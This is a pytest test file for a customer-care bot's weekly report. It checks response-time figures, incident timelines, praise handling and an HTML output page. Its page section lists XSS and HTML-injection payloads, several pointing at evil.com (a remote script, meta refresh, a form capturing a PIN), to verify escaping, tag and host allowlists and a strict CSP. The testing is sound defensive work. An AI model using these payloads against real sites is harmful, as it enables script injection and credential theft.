"""A week of the desk in figures: from the database of a run, for a terminal, a machine and a page that asks nobody for anything."""

from __future__ import annotations

import json
import re
import string
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from carebot.cli import main
from carebot.effects.database.store import Store
from carebot.loop import Loop
from carebot.model import Batch, Case, Click, Clock, Deleted, Event, Gap, Line, Message, SelfReport, Text
from carebot.replay import play, slots
from carebot.report import reading
from carebot.report.page import page
from carebot.report.reading import Days
from carebot.report.telling import told
from carebot.report.text import bar, lines
from carebot.report.waiting import percentile, waits
from carebot.report.week import Week
from carebot.report.words import KINDS, WORDS, lasted
from tests.saying import RULES, at, rulebook, say
from tests.test_order import complaint

HOUSE = Path(__file__).parents[1]
W11 = Days(date(2026, 3, 9), date(2026, 3, 15), "2026-W11")  # Thursday of it is the day of tests/saying.py
APP = "banco-lumbre-app-20260312"
BOOK = rulebook(RULES)


@pytest.fixture
def loop(tmp_path: Path) -> Iterator[Loop]:
    made = Loop(Store(tmp_path / "a.db"), BOOK, secret=b"x", destinations=lambda alert: (alert.to,))
    yield made
    made.store.close()


def heard(loop: Loop, *events: Event, until: float | None = None) -> None:
    for _ in play(
        loop, slots(iter(sorted(events, key=lambda one: getattr(one, "posted_at", None) or one.at))), until=at(until) if until else None
    ):
        pass


def ours(minute: float, to: Message, text: str = "Ya está arreglado, gracias por avisar", **more: str) -> Message:
    return say(
        text,
        by="BancoLumbre",
        minute=minute,
        means="",
        about="none",
        by_brand=True,
        verdict=None,
        in_reply_to=to.id,
        id=f"x:ours-{minute:g}-{to.id}",
        **more,
    )


def asks(by: str, minute: float, text: str = "@BancoLumbre ¿alguien me ayuda?", means: str = "question", **more: object) -> Message:
    return say(text, by=by, minute=minute, means=means, about=more.pop("about", "card"), **more)


def week(tmp_path: Path, days: Days = W11, rules: str = RULES) -> Week:
    return reading.week(tmp_path / "a.db", days, rulebook(rules))


def in_words(found: Week, language: str = "es", rules: str = RULES) -> str:
    return "\n".join(lines(told(found, rulebook(rules), language)))  # type: ignore[arg-type]


# ── customers ────────────────────────────────────────────────────────────────────────────────────────────────────


def test_first_answers_are_counted_by_channel_and_by_the_hour_in_which_customers_asked(loop, tmp_path):
    quick, slow, never = asks("ana", 0), asks("berta", 5), asks("carla", 70)
    review = asks("dani", 10, source="app_store", id="app_store:1")
    heard(loop, quick, slow, never, review, ours(4, quick), ours(45, slow), ours(20, review, source="app_store"), until=300)
    found = week(tmp_path).first_response
    assert (found.all.asked, found.all.answered, found.all.p50_min, found.all.p90_min) == (4, 3, 10.0, None)
    assert (found.all.promised, found.all.kept, found.all.within) == (4, 2, 0.5)
    assert {name: (one.asked, one.p50_min) for name, one in found.channels.items()} == {"app_store": (1, 10.0), "x": (3, 40.0)}
    assert {hour: (one.asked, one.answered) for hour, one in found.hours.items()} == {12: (3, 3), 13: (1, 0)}


def test_a_hand_off_is_no_answer_and_an_answer_after_it_ends_the_wait(loop, tmp_path):
    ana = asks("ana", 0)
    heard(loop, ana, ours(5, ana, "Por favor, llama al 900 123 456 y te lo solucionan"), ours(50, ana), until=60)
    found = week(tmp_path)
    assert found.first_response.all.p50_min == 50.0
    assert (found.hand_offs.count, found.hand_offs.answers, found.hand_offs.cases, found.hand_offs.twice) == (1, 1, 1, 0)
    assert (found.hand_offs.doors, found.hand_offs.channels) == ({"phone": 1}, {"x": 1})
    (late,) = found.breaches.first
    assert (late.who, late.late_min, late.why) == ("ana", 20.0, ("answered_late", "only_sent_elsewhere"))


def test_of_very_many_hand_offs_a_sample_says_where_to_and_says_that_it_is_one(loop, tmp_path, monkeypatch):
    monkeypatch.setattr("carebot.report.figures.DOORS_READ", 2)
    people = [asks(f"person{n}", n) for n in range(5)]
    heard(loop, *people, *(ours(10 + n, one, "Llama al 900 123 456") for n, one in enumerate(people)), until=20)
    found = week(tmp_path).hand_offs
    assert (found.count, found.doors, found.doors_read) == (5, {"phone": 2}, 2)
    assert "Leídas 2 de las 5." in in_words(week(tmp_path))


def test_of_very_many_breaches_the_worst_are_named_and_all_are_counted(loop, tmp_path, monkeypatch):
    monkeypatch.setattr("carebot.report.figures.LISTED", 3)
    heard(loop, *(asks(f"person{n}", n) for n in range(70)), until=200)
    found = week(tmp_path).breaches
    assert (found.count, [one.who for one in found.first]) == (70, ["person0", "person1", "person2"])


def test_a_clock_that_ran_out_says_why(loop, tmp_path):
    read_late = replace(asks("berta", 1), seen_at=at(25))
    many = [replace(complaint(n, n / 2), text=f"@BancoLumbre no va la app {n}") for n in range(8)]
    heard(loop, asks("ana", 0), read_late, *many, until=120)
    found = week(tmp_path).breaches
    assert found.count == 10 and found.clocks == {"first_response": 10}
    why = {one.who: one.why for one in found.first}
    assert why["ana"] == ("nobody_answered",)
    assert why["berta"] == ("nobody_answered", "heard_late")
    assert "incident" in why[many[-1].author]
    assert found.why["nobody_answered"] == 10


def test_what_was_promised_is_shown_with_its_words_and_what_became_of_it(loop, tmp_path):
    ana, berta = asks("ana", 0), asks("berta", 1)
    word = "Lo miramos y te escribimos hoy antes de las 13:00"
    heard(loop, ana, berta, ours(3, ana, word), ours(4, berta, word), ours(30, ana, "Ya te hemos escrito, está resuelto"), until=120)
    found = week(tmp_path).promises
    assert (found.kept, found.broken, found.dropped, found.open) == (1, 1, 0, 0)
    assert [(one.who, one.words, one.end) for one in found.first] == [
        ("berta", "hoy antes de las 13:00", "broken"),
        ("ana", "hoy antes de las 13:00", "kept"),
    ]
    assert "«hoy antes de las 13:00»" in in_words(week(tmp_path))


def test_who_came_back_and_who_may_leave(loop, tmp_path):
    ana = [asks("ana", minute, f"@BancoLumbre sigo igual {minute}", means="complaint") for minute in (0, 90, 200)]
    leaving = asks("berta", 10, "@BancoLumbre cierro la cuenta", means="churn")
    solved = [
        asks("carla", 0),
        asks("carla", 60, "ya funciona, gracias", means="recovered"),
        asks("carla", 100, "@BancoLumbre otra vez igual"),
    ]
    heard(loop, *ana, leaving, *solved, ours(20, solved[0]), until=400)
    found = week(tmp_path)
    assert (found.returned.cases, found.returned.reopened, found.returned.repeat, found.returned.wrote_twice) == (3, 1, 1, 1)
    assert found.returned.needs == {"churn": 1, "repeat": 1}
    (one,) = found.churn.first
    assert (one.who, one.contacts, one.solved, found.churn.count) == ("berta", 1, False, 1)


@given(st.lists(st.floats(0, 1e6), max_size=30), st.sampled_from((0.5, 0.9)), st.integers(0, 10))
def test_a_percentile_is_one_of_the_waits_and_those_who_wait_still_wait_the_longest(lasted_min, share, waiting):
    everybody = sorted([*lasted_min, *[float("inf")] * waiting])
    value = percentile(everybody, share)
    if value is None:
        assert not everybody or sum(one < float("inf") for one in everybody) < share * len(everybody)
    else:
        assert sum(one <= value + 0.005 for one in everybody) >= share * len(everybody)
        assert sum(one < value - 0.005 for one in everybody) < share * len(everybody)


def case(*clocks: Clock, **more: object) -> Case:
    return Case(
        **{"id": "case-1", "brand": "B", "source": "x", "author_key": "k", "author": "ana", "opened_at": at(0), "last_at": at(0), "clocks": clocks} | more
    )  # fmt: skip


def test_who_says_that_it_works_before_anybody_answered_is_neither_late_nor_let_down():
    clock = Clock(kind="first_response", started_at=at(0), due_at=at(30), met_at=at(10), void=True)
    (wait,) = waits(case(clock, solved_at=at(10)), at(100))
    assert (wait.no_more, wait.kept, wait.answered_at) == (True, None, None)
    (wait,) = waits(case(clock, closed_at=at(10)), at(100))  # nobody wrote any more, and nobody had answered
    assert (wait.no_more, wait.kept, wait.answered_at) == (False, False, None)


def test_an_answer_that_is_late_counts_as_late_though_nobody_was_running_to_see_it():
    (wait,) = waits(case(Clock(kind="first_response", started_at=at(0), due_at=at(30), met_at=at(31))), at(100))
    assert wait.kept is False
    (wait,) = waits(case(Clock(kind="first_response", started_at=at(0), due_at=at(30))), at(20))
    assert wait.kept is None  # nobody knows yet


def test_where_the_rules_promise_nothing_waits_are_counted_all_the_same():
    said = (Line("a", at(0), "asked"), Line("b", at(3), "hand_off"), Line("c", at(7), "answer"))
    (wait,) = waits(case(history=said), at(100))
    assert (wait.answered_at, wait.kept) == (at(7), None)


def test_a_case_that_joined_another_is_counted_once():
    clock = Clock(kind="first_response", started_at=at(0), due_at=at(30))
    assert list(waits(case(clock, joined="case-0"), at(100))) == []


# ── everybody ────────────────────────────────────────────────────────────────────────────────────────────────────


def test_an_incidents_ledger_goes_from_the_first_post_to_the_end(loop, tmp_path):
    quiet = say("good morning", by="zoe", minute=-1440, means="praise", about="none", id="x:morning")
    heard(loop, quiet, *(complaint(n, n / 2) for n in range(8)), until=8)
    for delivery in loop.store.waiting_deliveries():
        loop.store.record(replace(delivery, state="sent", ref=f"C1/{at(6).timestamp():.6f}"))
    take = Click(id="c1", action="take", user="U1", name="Lucía", incident=APP, at=at(9))
    loop.take([Batch(source="slack", events=(take,))], at(9))
    for minute in range(10, 200):
        loop.take([], at(minute))
    (one,) = week(tmp_path).incidents
    assert (one.incident, one.service, one.phase, one.count, one.people, one.owner) == (APP, "app", "resolved", 8, 8, "Lucía")
    assert one.told_by == "sent"
    assert {"first_post": at(0), "told": at(6), "acknowledged": at(9)}.items() <= one.steps.items()
    assert list(one.after_min) == ["noticed", "detected", "told", "acknowledged", "peak", "clear"]
    assert one.after_min["told"] == 6.0 and one.after_min["acknowledged"] == 9.0
    assert one.course and (one.course.start, one.course.step_min, sum(one.course.counts)) == (at(0), 1, 8)
    spanish = in_words(week(tmp_path))
    assert f"{APP}. la app: resuelta" in spanish and "alguien se encarga (Lucía)" in spanish
    assert re.search(r"dicho a los clientes +no consta", spanish)


def test_what_was_missed_is_told_gaps_deaf_hours_and_late_alerts(loop, tmp_path):
    gap = Gap(from_=at(-60), to=at(-30), why=Text("solo se ven las últimas", "only the newest are shown"))
    loop.take([Batch(source="forum", gaps=(gap,))], at(-20))
    deaf, back = Text("Sordos", "Deaf"), Text("De vuelta", "Back")
    loop.take([Batch(source="forum", events=(SelfReport(id="forum", reason="source_silent", headline=deaf, at=at(0)),))], at(0))
    loop.take([Batch(source="forum", events=(SelfReport(id="forum", reason="source_back", headline=back, at=at(90)),))], at(90))
    loop.take([Batch(source="forum", events=(SelfReport(id="quiet:x", reason="source_silent", headline=deaf, at=at(95)),))], at(95))
    stranded = asks("ana", 0, "@BancoLumbre sin dinero en Lisboa", means="moment")
    loop.take([Batch(source="x", events=(stranded,))], at(100))
    found = week(tmp_path).missed
    assert [(one.source, one.what, one.hours) for one in found.unread] == [
        ("forum", "gap", 0.5),
        ("forum", "deaf", 1.5),
        ("x", "quiet", 0.08),
    ]
    assert (found.deaf_hours, found.late_alerts, found.latest_min) == (1.5, 2, 100.0)  # the stranded customer, and her clock
    assert "only the newest are shown" in in_words(week(tmp_path), "en")


def test_praise_is_shown_with_its_place_and_not_once_it_was_taken_back(loop, tmp_path):
    def praise(by: str, minute: float, text: str, **more: object) -> Message:
        return say(text, by=by, minute=minute, means="praise", id=f"x:{by}-{minute:g}", **more)

    kept = praise("ana", 0, "un trato excelente", url="https://x.com/ana/status/1", audience=5)
    again = praise("ana", 9, "otra vez un diez", url="https://x.com/ana/status/2", audience=5)
    gone = praise("berta", 1, "palabras que retira", url="https://x.com/berta/status/3", audience=900_000)
    heard(loop, kept, again, gone, Deleted(id=gone.id, at=at(20)), until=30)
    found = week(tmp_path)
    assert (found.thanks.count, [one.text for one in found.thanks.quotes]) == (2, ["un trato excelente"])
    assert [(one.who, one.praises) for one in found.thanks.advocates] == [("ana", 2)]
    for said in (in_words(found), page(told(found, BOOK, "es")), msgspec.json.encode(found).decode()):
        assert "palabras que retira" not in said and "berta" not in said and "https://x.com/ana/status/1" in said


def test_thanks_for_nothing_is_no_praise_and_neither_is_a_repost(loop, tmp_path):
    bitter = say("gracias por nada", by="ana", minute=0, means="praise complaint", id="x:1")
    repeated = say("un trato excelente", by="berta", minute=1, means="praise", id="x:2", repost_of="x:0")
    heard(loop, bitter, repeated, say("mil gracias", by="carla", minute=2, means="praise", id="x:3"), until=10)
    assert [one.id for one in week(tmp_path).thanks.quotes] == ["x:3"]


def test_whoever_takes_back_all_they_said_is_named_nowhere(loop, tmp_path):
    ana = asks("ana_ruiz", 0, id="x:1")
    heard(loop, ana, until=60)
    for minute in (60 * 24 * 4, 60 * 24 * 4 + 1):  # the case has left the desk by then
        loop.take([], at(minute))
    loop.take([Batch(source="x", events=(Deleted(id=ana.id, at=at(6000)),))], at(6000))
    found = week(tmp_path)
    assert [one.who for one in found.breaches.first] == [""]
    assert "ana_ruiz" not in in_words(found) + msgspec.json.encode(found).decode()


# ── which days ───────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(("monday", "hours"), [(date(2026, 3, 9), 168), (date(2026, 3, 23), 167), (date(2026, 10, 19), 169)])
def test_a_week_has_its_real_hours_on_the_nights_in_which_the_clocks_change(loop, tmp_path, monday, hours):
    found = week(tmp_path, Days(monday, monday + timedelta(days=6)))
    assert found.to - found.from_ == timedelta(hours=hours)


def test_what_happened_on_sunday_night_belongs_to_that_week_and_not_to_the_next(loop, tmp_path):
    heard(loop, say("@BancoLumbre ?", by="ana", minute=60 * 24 * 3 + 719, means="question"), until=60 * 24 * 4)  # Sunday 23:59 in Madrid
    assert week(tmp_path).first_response.all.asked == 1
    assert week(tmp_path, Days(date(2026, 3, 16), date(2026, 3, 22))).first_response.all.asked == 0


def test_the_last_whole_week_is_meant_where_none_is_named(loop, tmp_path, capsys, monkeypatch):
    monkeypatch.setattr("carebot.clock.machine", lambda: datetime(2026, 3, 15, 22, 59, tzinfo=UTC))  # Sunday still
    (tmp_path / "rules.yaml").write_text(RULES)
    command = ["report", "--db", str(tmp_path / "a.db"), "--rules", str(tmp_path / "rules.yaml"), "--json"]
    assert main(command) == 0
    assert json.loads(capsys.readouterr().out)["week"] == "2026-W10"
    monkeypatch.setattr("carebot.clock.machine", lambda: datetime(2026, 3, 15, 23, 1, tzinfo=UTC))  # Monday in Madrid
    assert main(command) == 0
    assert json.loads(capsys.readouterr().out)["week"] == "2026-W11"


@pytest.mark.parametrize(
    ("asked", "says"),
    [
        (["--week", "2026-W54"], "is no week; write 2026-W46"),
        (["--week", "46"], "is no week; write 2026-W46"),
        (["--from", "9/11/2026", "--to", "2026-11-15"], "is no day; write 2026-11-09"),
        (["--from", "2026-11-15", "--to", "2026-11-09"], "the earlier day first"),
        (["--from", "2026-11-15"], "go together"),
        (["--week", "2026-W46", "--from", "2026-11-15"], "Write one or the other"),
        (["--week", "2026-W46", "--db", "no.db"], "is not there"),
        (["--week", "2026-W46", "--html", "no/such/folder.html"], "cannot be written"),
    ],
)
def test_what_cannot_be_reported_says_what_to_write(loop, tmp_path, capsys, monkeypatch, asked, says):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "rules.yaml").write_text(RULES)
    try:
        status = main(["report", *(asked if "--db" in asked else [*asked, "--db", "a.db"])])
    except SystemExit as end:
        status = int(end.code or 0)
    assert status == 2
    assert says in capsys.readouterr().err


def test_a_file_that_is_no_database_of_ours_is_said_to_be_none(tmp_path):
    from carebot.errors import Unusable

    (tmp_path / "a.db").write_bytes(b"x" * 4096)
    with pytest.raises(Unusable, match="cannot be read as carebot's database"):
        week(tmp_path)


# ── the same for the same database ───────────────────────────────────────────────────────────────────────────────


def busy(loop: Loop) -> None:
    ana = asks("ana", 0)
    many = [replace(complaint(n, n / 2), text=f"@BancoLumbre no va la app {n}", source="x" if n % 3 else "mastodon") for n in range(8)]
    thanks = say("mil gracias", by="zoe", minute=-1440, means="praise", url="https://x.com/zoe/status/1", id="x:thanks")
    heard(loop, thanks, ana, *many, ours(5, ana, "Llama al 900 123 456"), ours(9, ana, "Te escribimos hoy antes de las 13:00"), until=300)


def test_the_same_database_gives_the_same_bytes_and_is_only_read(loop, tmp_path, monkeypatch):
    busy(loop)
    before = loop.store.db.conn.execute("SELECT total_changes()").fetchone(), (tmp_path / "a.db").read_bytes()
    first = week(tmp_path)
    monkeypatch.setenv("TZ", "Pacific/Auckland")
    second = week(tmp_path)
    assert msgspec.json.encode(first) == msgspec.json.encode(second)
    assert page(told(first, BOOK, "es")) == page(told(second, BOOK, "es"))
    assert (loop.store.db.conn.execute("SELECT total_changes()").fetchone(), (tmp_path / "a.db").read_bytes()) == before


def test_every_word_is_there_in_both_languages_with_the_same_blanks():
    def blanks(text: str) -> set[str]:
        return {name for _, name, _, _ in string.Formatter().parse(text) if name}

    for name, text in {**WORDS, **KINDS}.items():
        assert text.es and text.en and blanks(text.es) == blanks(text.en), name


def test_a_week_of_which_nothing_is_known_says_so(loop, tmp_path):
    loop.take([], at(0))
    assert "La base de datos no tiene nada" in in_words(week(tmp_path)) or "no hay nada" in in_words(week(tmp_path))


def test_bars_are_drawn_to_an_eighth_and_what_is_not_nothing_is_seen():
    assert (bar(0, 10, 4), bar(10, 10, 4), bar(5, 10, 4), bar(0.001, 10, 4)) == ("", "████", "██", "▏")


@pytest.mark.parametrize(("minutes", "text"), [(None, "—"), (0.4, "24 s"), (38, "38 min"), (125, "2 h 05 min"), (3000, "2 d 2 h")])
def test_a_stretch_of_time_is_read_at_a_glance(minutes, text):
    assert lasted(minutes) == text


# ── the page ─────────────────────────────────────────────────────────────────────────────────────────────────────

# What strangers write to get into a page, one of each kind.
HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.com/x.js></sCrIpT>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</td></table><iframe src=https://evil.com></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "javascript:alert(1)//",
    "<b onmouseover=\"alert(1)\" style=\"background:url(https://evil.com/p)\">x</b>",
    "<!-- --><meta http-equiv=refresh content='0;url=https://evil.com'>",
    "<base href=https://evil.com/>",
    "<link rel=stylesheet href=https://evil.com/x.css>",
    "<form action=https://evil.com><input name=pin>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202egnp.exe\u0000<script\u0000>alert(1)</script>",
    "<math><mi xlink:href=\"data:text/html,<script>alert(1)</script>\">",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>",
    "https://evil.com/?q=\"onclick=\"alert(1)",
)  # fmt: skip
TAGS = {
    "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "dl", "div", "dt", "dd", "table", "thead", "tbody", "tr", "th",
    "td", "a", "svg", "text", "tspan", "rect", "line",
}  # fmt: skip
ATTRIBUTES = {
    "lang", "charset", "http-equiv", "content", "name", "class", "href", "rel", "viewbox", "role", "aria-label", "x", "y", "x1", "x2", "y1",
    "y2", "width", "height", "rx", "text-anchor", "fill", "stroke",
}  # fmt: skip


@dataclass
class Seen(HTMLParser):
    """What a browser would find in a page."""

    tags: set[str] = field(default_factory=set)
    attributes: set[str] = field(default_factory=set)
    links: list[str] = field(default_factory=list)
    policy: str = ""
    style: str = ""
    text: str = ""
    inside: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        told = dict(attrs)
        self.links += [told["href"] or ""] if "href" in told else []
        if told.get("http-equiv") == "Content-Security-Policy":
            self.policy = told["content"] or ""
        if tag != "meta":
            self.inside.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self.inside.pop()

    def handle_endtag(self, tag: str) -> None:
        assert self.inside and self.inside.pop() == tag, f"</{tag}> closes nothing"

    def handle_data(self, data: str) -> None:
        if self.inside and self.inside[-1] == "style":
            self.style += data
        else:
            self.text += data


def seen(html: str) -> Seen:
    found = Seen()
    found.feed(html)
    found.close()
    assert found.inside == []
    return found


def attacked(loop: Loop) -> None:
    """Everything a stranger may choose: their words, handle, network, address; and ours, who quote them."""
    events: list[Event] = []
    for n, evil in enumerate(HOSTILE):
        asked = asks(f"eve{n}{evil}"[:60], n, f"@BancoLumbre {evil}", means="question churn complaint", id=f"x:{n}{evil}")
        events += [asked, ours(n + 0.5, asked, f"{evil} te escribimos hoy antes de las 13:00 {evil}")]
        praise = say(
            evil,
            by=f"p{n}{evil}"[:60],
            minute=n,
            means="praise",
            id=f"p:{n}",
            audience=5000 - n,
            url=("https://evil.com/" if n % 2 else "") + evil,
        )
        events += [praise, asks(f"f{n}", n, evil, source=f"forum{evil}"[:40], id=f"f:{n}")]
    heard(loop, *events, until=200)
    loop.take([Batch(source=f"gap{HOSTILE[2]}", gaps=(Gap(from_=at(0), to=at(5), why=Text(HOSTILE[0], HOSTILE[0])),))], at(201))


@pytest.mark.parametrize("language", ["es", "en"])
def test_whatever_strangers_write_the_page_runs_nothing_and_leads_nowhere(loop, tmp_path, language):
    attacked(loop)
    found = week(tmp_path)
    assert found.thanks.quotes and found.breaches.first and found.promises.first and found.churn.first and found.missed.unread
    html = page(told(found, BOOK, language))
    read = seen(html)
    assert read.tags <= TAGS, read.tags - TAGS
    assert read.attributes <= ATTRIBUTES, read.attributes - ATTRIBUTES
    assert read.links == []  # no address of theirs is on the network's own host
    assert "alert(1)" in read.text  # it was shown, as text
    assert "\u202e" not in html and "\0" not in html
    terminal = in_words(found, language)
    assert "\u202e" not in terminal and "\x1b" not in terminal and "\0" not in terminal


def test_the_page_needs_nobody_and_its_policy_lets_nothing_in(loop, tmp_path):
    busy(loop)
    html = page(told(week(tmp_path), BOOK, "es"))
    read = seen(html)
    assert read.links == ["https://x.com/zoe/status/1"]
    assert set(re.findall(r"(?i)https?://[^\s\"'<>]+", html)) == set(read.links)
    assert "url(" not in read.style and "@import" not in read.style
    import base64
    import hashlib

    held = base64.b64encode(hashlib.sha256(read.style.encode()).digest()).decode()
    assert read.policy == f"default-src 'none'; style-src 'sha256-{held}'; base-uri 'none'; form-action 'none'"
    assert html.index("Content-Security-Policy") < html.index("<style>") and "prefers-color-scheme: dark" in html and "size: A4" in html


@pytest.mark.parametrize(
    ("source", "url", "is_a_link"),
    [
        ("x", "https://x.com/zoe/status/1", True),
        ("x", "https://x.com.evil.com/zoe", False),
        ("x", "http://x.com/zoe", False),
        ("x", "https://x.com@evil.com/", False),
        ("foro", "https://foro.lumbre.org/t/1", True),  # the rules name this host
        ("foro", "https://evil.com/t/1", False),
        ("nobody_knows", "https://evil.com/t/1", False),
    ],
)
def test_a_link_leads_only_to_the_networks_own_host_or_to_one_that_the_rules_name(loop, tmp_path, source, url, is_a_link):
    rules = RULES + "sources:\n  - {name: foro, kind: feed, url: https://foro.lumbre.org/rss}\n"
    heard(loop, say("mil gracias", by="zoe", minute=0, means="praise", source=source, url=url, id="m:1"), until=5)
    from carebot.config.load import read as read_rules
    from carebot.service import kinds

    book, problems = read_rules(rules, kinds=kinds())
    assert book, problems
    found = seen(page(told(week(tmp_path), book, "es")))
    assert found.links == ([url] if is_a_link else [])


def test_report_writes_the_page_and_says_where(loop, tmp_path, capsys):
    busy(loop)
    (tmp_path / "rules.yaml").write_text(RULES)
    file = tmp_path / "week.html"
    command = ["report", "--week", "2026-W11", "--db", str(tmp_path / "a.db"), "--rules", str(tmp_path / "rules.yaml"), "--html", str(file)]
    assert main([*command, "--lang", "en"]) == 0
    said = capsys.readouterr()
    assert said.out == "" and f"{file} written" in said.err
    assert seen(file.read_text(encoding="utf-8")).text.count("Banco Lumbre: week 2026-W11") == 2


# ── the page of the docs ─────────────────────────────────────────────────────────────────────────────────────────


def shape(type_: object) -> dict[str, object]:
    """The fields of a struct as JSON has them, those of its parts below them."""
    info = msgspec.inspect.type_info(type_)

    def inner(kind: object) -> object:
        if isinstance(kind, msgspec.inspect.StructType):
            return {one.encode_name: inner(one.type) for one in kind.fields}
        for name in ("item_type", "value_type"):
            if hasattr(kind, name):
                return inner(getattr(kind, name))
        if isinstance(kind, msgspec.inspect.UnionType):
            return next((found for one in kind.types if (found := inner(one))), None)
        return None

    found = inner(info)
    assert isinstance(found, dict)
    return found


def paths(shaped: dict[str, object], before: str = "") -> Iterator[str]:
    for name, below in shaped.items():
        yield before + name
        if isinstance(below, dict):
            yield from paths(below, f"{before}{name}.")


def test_every_figure_of_the_json_is_explained_and_none_that_is_not_there():
    text = (HOUSE / "docs/how-to/read-the-week.md").read_text(encoding="utf-8")
    rows = re.findall(r"^\| `([\w.]+)`((?:, `[\w.]+`)*) \|", text, re.MULTILINE)
    told_of = {name for first, rest in rows for name in (first, *re.findall(r"`([\w.]+)`", rest))}
    waits_once = re.compile(r"^first_response\.(channels|hours)\..*")  # as first_response.all
    fields = {path for path in paths(shape(Week)) if not waits_once.match(path)}
    assert told_of == fields
